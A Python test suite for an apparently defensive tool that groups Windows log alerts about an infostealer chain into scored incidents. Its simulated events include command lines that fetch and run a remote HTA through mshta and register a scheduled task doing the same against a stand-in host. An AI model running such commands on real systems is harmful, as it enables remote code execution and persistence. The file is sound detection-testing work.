"""The worked examples of the threat model (3.6), and what must hold for any input."""

from __future__ import annotations

import random
import uuid
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

import builders as b
from builders import HOST
from douse.incident.correlate import correlate
from douse.incident.facts import Facts, HostFacts
from douse.model import Coverage, Event, Incident, Source, level_rank
from incident.stories import (
    CHROME_STORE,
    FIREFOX_STORE,
    MSHTA,
    OPERA_STORE,
    SERVER,
    Story,
    ids,
    letters,
    lumma,
)


def test_w1_reads_alone_are_high_and_never_critical() -> None:
    thief = b.process("C:\\Users\\anna\\AppData\\Roaming\\Chrome\\chrome.exe", 500, 0, b.explorer())
    story = Story()
    for seconds, (path, store) in enumerate(
        ((CHROME_STORE, "chromium"), (FIREFOX_STORE, "gecko"), (OPERA_STORE, "chromium"))
    ):
        story.read(thief, seconds, path, store)
    incident = story.incident()
    assert (incident.level, incident.score, ids(incident), letters(incident)) == ("high", 35, {"S4"}, "C")


def test_w2_mshta_on_the_network_is_high_and_claims_no_theft() -> None:
    shell = b.process("C:\\Windows\\System32\\cmd.exe", 400, 0, b.explorer())
    mshta = b.process(MSHTA, 500, 1, shell, "mshta.exe https://x.example/a.hta")
    task = b.process(
        "C:\\Windows\\System32\\schtasks.exe",
        600,
        3,
        mshta,
        'schtasks /create /tn x /tr "mshta https://x.example/a.hta"',
    )
    story = Story()
    story.alert(b.process_start(mshta), "X", "Mshta with a URL", "high")
    story.alert(b.connection(mshta, 2, SERVER), "R", "Mshta connected")
    story.alert(b.connection(mshta, 2.5, SERVER, 80), "R", "Mshta connected")
    story.alert(b.process_start(task), "P", "Task for a URL")
    incident = story.incident()
    assert (incident.level, ids(incident), letters(incident)) == ("high", {"S2"}, "XRP")
    assert "read the credential" not in incident.verdict
    assert "theft cannot be excluded" in incident.verdict


def test_w3_harmless_run_entries_raise_no_alert_and_so_no_incident() -> None:
    story = Story()
    story.log(b.run_dialog(b.explorer(), 0, "cmd.exe"), b.run_dialog(b.explorer(), 5, "notepad.exe"))
    assert story.incidents() == ()


def test_w4_the_vault_alone_is_at_most_high() -> None:
    story = Story()
    ran = b.process("C:\\Users\\anna\\x.exe", 500, 0, b.explorer())
    story.alert(b.process_start(ran), "X", "Started")
    for seconds in range(3):
        vault = b.event(b.SECURITY, 5382, seconds, {"ClientProcessId": "500", "SubjectUserSid": b.ANNA.sid})
        story.alert(vault, "C", "Vault read", store="vault")
    incident = story.incident()
    assert level_rank(incident.level) <= level_rank("high")
    assert "S6" not in ids(incident)


@pytest.mark.parametrize("shape", ["sysmon", "security"])
def test_w5_the_whole_chain_is_critical_by_either_log(shape: str) -> None:
    incident = lumma(shape=shape).incident()
    assert incident.level == "critical"
    assert {"S1", "S2", "S3", "S4", "S5", "S6"} == ids(incident)
    assert len(incident.alert_ids) == len(lumma(shape=shape).alerts)


def test_w6_the_same_without_auditing_is_high_and_names_the_gap() -> None:
    incident = lumma(audit=False).incident()
    assert incident.level == "high"
    assert "S7" in ids(incident)
    assert any("4663" in spot.title and "4663" in spot.events for spot in incident.blind_spots)


def test_w7_an_import_a_backup_and_a_scan_are_at_most_low() -> None:
    story = Story()
    firefox = b.process("C:\\Program Files\\Mozilla Firefox\\firefox.exe", 500, 0, b.explorer())
    backup = b.process(
        "C:\\Program Files\\Backup\\agent.exe",
        600,
        0,
        b.process("C:\\Windows\\System32\\services.exe", 700, -9000, user=b.SYSTEM),
        user=b.SYSTEM,
    )
    for seconds, (reader, path, store) in enumerate(
        ((firefox, CHROME_STORE, "chromium"), (firefox, CHROME_STORE, "chromium"), (backup, FIREFOX_STORE, "gecko"))
    ):
        story.read(reader, seconds, path, store, fidelity=0.7)
        story.log(b.connection(firefox, seconds, SERVER), b.connection(firefox, seconds, SERVER, shape="security"))
    assert [incident.level for incident in story.incidents()] == ["informational", "informational"]


def test_both_logs_of_one_intrusion_are_the_same_incident_twice_proven() -> None:
    both = lumma()
    twin = lumma(shape="security")
    merged = both.extend(twin).incident()
    alone = both.incident()
    assert (merged.level, ids(merged)) == (alone.level, ids(alone))
    assert len(merged.processes) == len(alone.processes)
    assert len([s for s in merged.steps if s.title.startswith("Pasted")]) == 1


def test_no_alert_is_lost_or_in_two_incidents() -> None:
    story = lumma().extend(lumma(user=b.BEN, pid=7000)).extend(lumma(pid=8000, later=20000))
    incidents = story.incidents()
    assert sorted(a for i in incidents for a in i.alert_ids) == sorted(a.alert_id for a in story.alerts)


def test_worst_first() -> None:
    story = lumma(later=9000).extend(lumma(audit=False, user=b.BEN, pid=7000))  # audited, but nothing read
    story.alert(b.process_start(b.process(MSHTA, 9900, -90000, b.explorer(9999))), "X", "Old", "low")
    assert [incident.level for incident in story.incidents()] == ["critical", "high", "informational"]
    assert story.incidents()[0].first_seen > story.incidents()[2].first_seen


def test_the_id_is_of_host_and_first_scoring_alert_and_stays_while_the_incident_grows() -> None:
    story = lumma()
    grown = lumma()
    grown.events, grown.alerts = list(story.events), list(story.alerts)
    grown.read(b.process(MSHTA, 5000, 0, b.explorer(4120 + 5000 % 97)), 25, FIREFOX_STORE, "gecko")
    before, after = story.incident(), grown.incident()
    assert after.incident_id == before.incident_id
    assert uuid.UUID(before.incident_id).version == 5
    assert after.supersedes == ()


def test_an_incident_that_grows_backwards_says_what_it_replaces() -> None:
    story = lumma()
    late = Story(story.events, story.alerts[3:])
    (old,) = late.incidents()
    facts, coverage = b.facts_of(story.events).host(HOST), b.coverage_of(story.events)
    (new,) = correlate(story.alerts, facts, coverage, previous=[old])
    assert new.incident_id != old.incident_id
    assert new.supersedes == (old.incident_id,)
    assert correlate(story.alerts, facts, coverage, previous=[new])[0].supersedes == ()


def test_a_record_read_from_two_files_counts_once() -> None:
    story = lumma()
    copies = [replace(alert, source=Source("copy.zip", "case.jsonl", "jsonl")) for alert in story.alerts]
    again = Story(story.events + story.events, copies + story.alerts)
    assert correlate(again.alerts, b.facts_of(again.events).host(HOST), b.coverage_of(story.events)) == (
        story.incidents()
    )


def test_without_any_facts_an_incident_still_forms_from_its_alerts() -> None:
    story = lumma()
    found = correlate(story.alerts, HostFacts(HOST), Coverage(HOST, ()))
    assert found[0].level in {"high", "critical"}
    assert sum(len(incident.alert_ids) for incident in found) == len(story.alerts)
    assert correlate([], HostFacts(HOST), Coverage(HOST, ())) == ()


def test_a_process_that_inherits_the_pid_of_the_thief_is_not_blamed() -> None:
    story = lumma(shape="security")
    heir = b.process("C:\\Windows\\System32\\notepad.exe", 5008, 300, b.explorer(7777, b.BEN))
    story.log(b.process_start(heir, "security"))
    story.alert(b.connection(heir, 305, "203.0.113.77", shape="security"), "R", "Heir connected")
    worst, other = story.incidents()
    assert worst.level == "critical"
    assert [step.process for step in other.steps] == ["notepad.exe (5008)"]
    assert "203.0.113.77" not in worst.verdict


def test_records_out_of_order_by_a_little_still_make_the_chain() -> None:
    story = lumma()
    moved = Story(
        story.events,
        [
            replace(alert, time=alert.time - timedelta(seconds=1.5)) if alert.event_id == 4663 else alert
            for alert in story.alerts
        ],
    )
    assert ids(moved.incident()) == ids(story.incident())


MANY = (
    lumma()
    .extend(lumma(user=b.BEN, pid=7000, later=3, shape="security"))
    .extend(lumma(audit=False, pid=9000, later=4000))
)
MANY.alert(b.event(b.SECURITY, 4698, 30, {"SubjectUserSid": b.ANNA.sid, "TaskContent": "x"}), "P", "Task")
MANY.alert(
    b.process_start(
        b.process(
            MSHTA, 9500, 40, b.process("C:\\Windows\\System32\\svchost.exe", 900, -9000, user=b.SYSTEM), user=b.ANNA
        )
    ),
    "X",
    "By a broker",
)
WHOLE = MANY.incidents()


def split_up(seed: int, workers: int) -> tuple[Incident, ...]:
    """The same hunt with the records shuffled and shared out among workers, some read twice."""
    generator = random.Random(seed)
    events: list[Event] = MANY.events + generator.choices(MANY.events, k=5)
    alerts = MANY.alerts + generator.choices(MANY.alerts, k=5)
    generator.shuffle(events)
    generator.shuffle(alerts)
    parts = [b.facts_of(events[number::workers]) for number in range(workers)]
    facts = Facts()
    for part in parts:
        facts.merge(part)
    return correlate(iter(alerts), facts.host(HOST), b.coverage_of(MANY.events))


@given(seed=st.integers(0, 10_000), workers=st.integers(1, 4))
def test_order_splitting_and_copies_never_change_incidents(seed: int, workers: int) -> None:
    assert split_up(seed, workers) == WHOLE


@given(chosen=st.sets(st.integers(0, len(MANY.alerts) - 1), min_size=1))
def test_any_part_of_the_alerts_makes_consistent_incidents(chosen: set[int]) -> None:
    alerts = [MANY.alerts[number] for number in sorted(chosen)]
    found = correlate(alerts, b.facts_of(MANY.events).host(HOST), b.coverage_of(MANY.events))
    assert sorted(a for i in found for a in i.alert_ids) == sorted(a.alert_id for a in alerts)
    for incident in found:
        assert incident.first_seen <= incident.last_seen
        assert incident.score == pytest.approx(
            sum(c.points for c in incident.classes) + sum(h.bonus for h in incident.sequences)
        )
        assert incident.level != "critical" or "C" in letters(incident)
        assert all(parent is None or parent < at for at, parent in enumerate(n.parent for n in incident.processes))
        assert {a for s in incident.steps for a in s.alert_ids} == set(incident.alert_ids)


@given(
    fields=st.dictionaries(
        st.sampled_from(
            [
                "ProcessId",
                "ProcessGuid",
                "Image",
                "TargetObject",
                "Details",
                "User",
                "SubjectUserSid",
                "QueryResults",
                "DestinationIp",
                "TargetProcessId",
                "SourceProcessGUID",
                "ParentProcessGuid",
                "NewProcessId",
            ]
        ),
        st.text(max_size=30),
    ),
    event_id=st.sampled_from([1, 3, 8, 10, 11, 13, 22, 25, 4663, 4688, 4698, 5156]),
    letter=st.sampled_from("DXEICROPV"),
    role=st.sampled_from(["", "run-dialog", "dead-drop", "paste-child"]),
)
def test_hostile_fields_never_stop_it(fields: dict[str, str], event_id: int, letter: str, role: str) -> None:
    channel = b.SECURITY if event_id > 1000 else b.SYSMON
    one = b.event(channel, event_id, 0, dict(fields))
    found = correlate(
        [b.alert(one, letter, role=role, store="chromium")], b.facts_of([one]).host(HOST), Coverage(HOST, ())
    )
    assert len(found) == 1
